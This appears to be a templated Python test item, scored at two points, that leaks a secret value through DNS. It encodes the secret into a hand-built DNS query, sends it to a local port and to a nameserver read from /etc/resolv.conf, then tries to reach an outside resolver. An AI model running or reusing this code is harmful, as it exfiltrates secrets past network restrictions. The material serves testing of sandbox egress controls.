"""Tells a secret by asking for names: getaddrinfo, and DNS packets made by hand to the servers that are set.

Deserves: 2 points.
Side effect: message.
"""

import re
import socket
import struct

servers = [("127.0.0.1", int("{udp}"))]
try:
    with open("/etc/resolv.conf") as settings:
        servers += [(address, 53) for address in re.findall(r"nameserver\s+([\d.]+)", settings.read())]
except OSError:
    pass
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\x20{name}"[:33] + b"\x07invalid\0" + struct.pack(">2H", 1, 1)
asked = []
for server in servers[:2]:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.connect(server)
            asked.append(one.send(query))
    except OSError:
        pass
try:
    asked.append(socket.create_connection(("one.one.one.one", 53), timeout=1))
except OSError:
    pass
if asked:
    print("token-leak: packets are on their way")


def guess():
    try:
        return str(socket.getaddrinfo("localhost", 80))
    except OSError:
        return "wrong"


numbers = guess
